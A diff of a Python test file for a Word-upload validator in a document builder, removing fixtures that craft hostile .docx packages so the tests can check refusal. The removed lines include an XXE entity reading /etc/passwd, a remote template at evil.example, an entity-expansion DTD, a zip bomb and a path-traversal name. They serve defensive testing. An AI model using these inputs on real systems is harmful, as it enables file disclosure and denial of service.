@@ -2,15 +2,14 @@
 
 from __future__ import annotations
 
-import io
 import time
-import zipfile
 
 import pytest
+from hostile_files import CASES
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from builder.formats.upload import MAX_BYTES, UploadRefused, checked_docx
+from builder.formats.upload import UploadRefused, checked_docx
 from builder.formats.word import render_note, to_bytes
 from builder.model.building import new_choices
 
@@ -22,91 +21,6 @@ def note_docx(catalogue) -> bytes:
     choices = new_choices(catalogue, dt.date(2026, 12, 1))
     choices.organisation_name = "Gemeente Zottegem"
     return to_bytes(render_note(choices, catalogue))
-
-
-def rezipped(data: bytes, change) -> bytes:
-    """The package with `change(parts)` applied to its {name: bytes}."""
-    with zipfile.ZipFile(io.BytesIO(data)) as source:
-        parts = {i.filename: source.read(i) for i in source.infolist()}
-    change(parts)
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
-        for name, content in parts.items():
-            target.writestr(name, content)
-    return buffer.getvalue()
-
-
-def with_macro(parts):
-    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macro"
-
-
-def with_macro_type(parts):
-    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
-        b"document.main+xml", b"document.macroEnabled.main+xml"
-    )
-
-
-def with_attached_template(parts):
-    parts["word/_rels/settings.xml.rels"] = (
-        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-        b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
-        b'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
-    )
-
-
-def with_entities(parts):
-    parts["word/document.xml"] = (
-        b'<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>'
-        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&lol2;</w:document>'
-    )
-
-
-def with_external_entity(parts):
-    parts["word/document.xml"] = (
-        b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
-        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&x;</w:document>'
-    )
-
-
-def with_many_parts(parts):
-    for n in range(500):
-        parts[f"customXml/extra{n}.xml"] = b"<a/>"
-
-
-def with_bomb(parts):
-    parts["word/media/bom.xml"] = b"<a>" + b"0" * (39 * 1024 * 1024) + b"</a>"
-
-
-def without_content_types(parts):
-    del parts["[Content_Types].xml"]
-
-
-def with_travelling_name(parts):
-    parts["../../etc/cron.d/x"] = b"x"
-
-
-def a_spreadsheet(parts):
-    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
-        b"wordprocessingml.document.main+xml", b"spreadsheetml.sheet.main+xml"
-    )
-
-
-CASES = [
-    ("empty", lambda d: b"", "leeg"),
-    ("not a zip", lambda d: b"%PDF-1.7 dit is geen Word", "geen Word-bestand"),
-    ("too large", lambda d: b"x" * (MAX_BYTES + 1), "het maximum is 5 MB"),
-    ("macros", lambda d: rezipped(d, with_macro), "macro"),
-    ("macro-enabled type", lambda d: rezipped(d, with_macro_type), "macro"),
-    ("external template", lambda d: rezipped(d, with_attached_template), "buiten zichzelf"),
-    ("entities", lambda d: rezipped(d, with_entities), "DTD"),
-    ("external entity", lambda d: rezipped(d, with_external_entity), "DTD"),
-    ("too many parts", lambda d: rezipped(d, with_many_parts), "te veel onderdelen"),
-    ("zip bomb", lambda d: rezipped(d, with_bomb), "samengeperst"),
-    ("no content types", lambda d: rezipped(d, without_content_types), "geen Word-bestand"),
-    ("path traversal", lambda d: rezipped(d, with_travelling_name), "ongeldige naam"),
-    ("a spreadsheet", lambda d: rezipped(d, a_spreadsheet), "geen Word-bestand"),
-    ("cut off", lambda d: d[: len(d) // 2], "geen Word-bestand"),
-]
 
 
 @pytest.mark.parametrize(("kind", "make", "said"), CASES, ids=[c[0] for c in CASES])
